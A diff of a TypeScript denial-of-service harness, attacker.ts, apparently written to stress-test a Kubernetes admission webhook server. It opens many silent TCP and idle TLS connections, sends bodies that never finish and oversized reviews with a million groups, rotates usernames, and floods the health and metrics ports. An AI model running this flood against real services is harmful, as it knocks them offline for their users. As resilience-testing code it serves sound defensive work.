@@ -1,31 +1,41 @@
-// What somebody does who reaches the server's ports and nothing else, in a process of its own: `attacker.ts JSON` with an `Attack`.
-// It goes on until it is killed, and prints a line with what it has done so far every second.
+// An attacker that reaches the server's ports and nothing else, as a process of its own: `attacker.ts JSON` with an `Attack`.
+// It attacks until it is killed. Each second it prints one line with its counts so far.
 import { Agent, get as httpGet } from 'node:http';
 import { request } from 'node:https';
 import { connect as connectTcp, type Socket } from 'node:net';
 import { connect as connectTls } from 'node:tls';
 
+/**
+ * What one connection does: stay silent before TLS, or after it, leave a body of 4 MB unfinished, send reviews of 3.8 MB, send reviews
+ * with a million groups, or send small reviews, each with other names.
+ */
+export type AttackRole = 'silent' | 'idle' | 'body' | 'large' | 'groups' | 'small';
+
 export interface Attack {
   readonly host: string;
+  /** Port of the webhooks. */
   readonly webhooks: number;
-  readonly health: number;
-  readonly metrics: number;
-  /** Of a webhook, whatever an attacker would have to find out to know it included. */
+  /** A webhook's path, with the segment if it has one. */
   readonly path: string;
-  /** Addresses that it comes from. */
+  /** Addresses that the connections come from, in turn. */
   readonly sources: readonly string[];
-  /** To the webhooks, over all sources. */
+  /** Connections to the webhooks, over all sources. */
   readonly connections: number;
+  /** Each source deals these out to its connections, in turn. */
+  readonly roles: readonly AttackRole[];
+  /** Ports of health and metrics. If there is one, each source holds 32 connections to it, or scrapes it. */
+  readonly health?: number;
+  readonly metrics?: number;
 }
 
 const attack = JSON.parse(process.argv[2] ?? '') as Attack;
 const { host, sources } = attack;
 /** Milliseconds until a connection that was closed is opened again. */
 const againMs = 50;
-const done = { opened: 0, closed: 0, dear: 0, cheap: 0, scrapes: 0, refused: 0 };
+const done = { opened: 0, closed: 0, answered: 0, refused: 0, scrapes: 0 };
 
 const head = `POST ${attack.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n`;
-const review = (userInfo: object, name: string): string =>
+const review = (userInfo: object, name: string, note = ''): string =>
   JSON.stringify({
     apiVersion: 'admission.k8s.io/v1',
     kind: 'AdmissionReview',
@@ -41,15 +51,18 @@ const review = (userInfo: object, name: string): string =>
         apiVersion: 'crds.wizardofoz.co/v1alpha1',
         kind: 'PodAccessRequest',
         metadata: { name },
-        spec: { templateName: name },
+        spec: { templateName: name, note },
       },
     },
   });
-/** Nearly 4 MiB of it are groups. */
-const dear = review({ username: 'eve', groups: Array.from({ length: 1_000_000 }, () => '') }, 'dear');
+const eve = { username: 'eve', groups: ['devs'] };
+const large = Buffer.from(review(eve, 'large', 'é'.repeat(1_900_000)));
+const groups = review({ ...eve, groups: Array.from({ length: 1_000_000 }, () => '') }, 'groups');
+let names = 0;
+const small = (): string => review({ ...eve, username: `eve-${names}` }, `n-${names++}`);
 
-const keepOpen = (open: (again: () => void) => Socket): void => {
-  const socket = open(() => setTimeout(() => keepOpen(open), againMs));
+const keepOpen = (open: () => Socket): void => {
+  const socket = open();
   done.opened++;
   socket.on('error', () => {});
   socket.resume();
@@ -58,15 +71,15 @@ const keepOpen = (open: (again: () => void) => Socket): void => {
     setTimeout(() => keepOpen(open), againMs);
   });
 };
+const tcp = (port: number, localAddress: string): Socket => connectTcp({ host, port, localAddress });
 const tls = (localAddress: string, then: (socket: Socket) => void): Socket => {
-  const below = connectTcp({ host, port: attack.webhooks, localAddress });
-  const socket = connectTls({ socket: below, rejectUnauthorized: false });
+  const socket = connectTls({ socket: tcp(attack.webhooks, localAddress), rejectUnauthorized: false });
   socket.once('secureConnect', () => then(socket));
   return socket;
 };
-const post = (localAddress: string, body: () => string, count: 'dear' | 'cheap'): void => {
-  const again = (): void => void setTimeout(() => post(localAddress, body, count), againMs);
-  const text = body();
+const post = (localAddress: string, body: () => Buffer | string): void => {
+  const again = (): void => void setTimeout(() => post(localAddress, body), againMs);
+  const bytes = body();
   const call = request(
     {
       host,
@@ -75,46 +88,52 @@ const post = (localAddress: string, body: () => string, count: 'dear' | 'cheap')
       method: 'POST',
       localAddress,
       rejectUnauthorized: false,
-      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) },
+      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(bytes) },
     },
     (answer) => {
-      done[answer.statusCode === 200 ? count : 'refused']++;
+      done[answer.statusCode === 200 ? 'answered' : 'refused']++;
       answer.resume();
       answer.once('close', again);
     },
   );
   call.once('error', again);
-  call.end(text);
+  call.end(bytes);
 };
 
-let names = 0;
-/** Of 16 connections: silent before TLS, silent after it, bodies that never end, dear reviews, cheap ones with ever other names. */
-const roles = [...Array(7).fill('silent'), ...Array(3).fill('idle'), ...Array(3).fill('body'), 'dear', 'dear', 'cheap'];
-for (let index = 0; index < attack.connections; index++) {
-  const localAddress = sources[index % sources.length] ?? host;
-  const role = roles[Math.floor(index / sources.length) % roles.length];
-  if (role === 'silent') keepOpen(() => connectTcp({ host, port: attack.webhooks, localAddress }));
-  if (role === 'idle') keepOpen(() => tls(localAddress, () => {}));
-  if (role === 'body') {
+const play: Readonly<Record<AttackRole, (localAddress: string) => void>> = {
+  silent: (localAddress) => keepOpen(() => tcp(attack.webhooks, localAddress)),
+  idle: (localAddress) => keepOpen(() => tls(localAddress, () => {})),
+  body: (localAddress) =>
     keepOpen(() =>
-      tls(localAddress, (socket) => socket.write(`${head}Content-Length: 4000000\r\n\r\n${dear.slice(0, 3_900_000)}`)),
-    );
-  }
-  if (role === 'dear') post(localAddress, () => dear, 'dear');
-  if (role === 'cheap')
-    post(localAddress, () => review({ username: `eve-${names}`, groups: ['devs'] }, `n-${names++}`), 'cheap');
+      tls(localAddress, (socket) =>
+        socket.write(`${head}Content-Length: 4000000\r\n\r\n${groups.slice(0, 3_900_000)}`),
+      ),
+    ),
+  large: (localAddress) => post(localAddress, () => large),
+  groups: (localAddress) => post(localAddress, () => groups),
+  small: (localAddress) => post(localAddress, small),
+};
+
+for (let index = 0; index < attack.connections; index++) {
+  const role = attack.roles[Math.floor(index / sources.length) % attack.roles.length];
+  if (role) play[role](sources[index % sources.length] ?? host);
 }
 for (const localAddress of sources) {
-  for (let n = 0; n < 32; n++) keepOpen(() => connectTcp({ host, port: attack.health, localAddress }));
-  const agent = new Agent({ keepAlive: true, localAddress });
-  const scrape = (): void => {
-    const call = httpGet({ host, port: attack.metrics, path: '/metrics', agent, localAddress }, (answer) => {
-      done.scrapes++;
-      answer.resume();
-      answer.once('close', () => setTimeout(scrape, againMs));
-    });
-    call.once('error', () => setTimeout(scrape, againMs));
-  };
-  scrape();
+  const { health, metrics } = attack;
+  if (health !== undefined) {
+    for (let n = 0; n < 32; n++) keepOpen(() => tcp(health, localAddress));
+  }
+  if (metrics !== undefined) {
+    const agent = new Agent({ keepAlive: true, localAddress });
+    const scrape = (): void => {
+      const call = httpGet({ host, port: metrics, path: '/metrics', agent, localAddress }, (answer) => {
+        done.scrapes++;
+        answer.resume();
+        answer.once('close', () => setTimeout(scrape, againMs));
+      });
+      call.once('error', () => setTimeout(scrape, againMs));
+    };
+    scrape();
+  }
 }
 setInterval(() => console.log(JSON.stringify(done)), 1000);
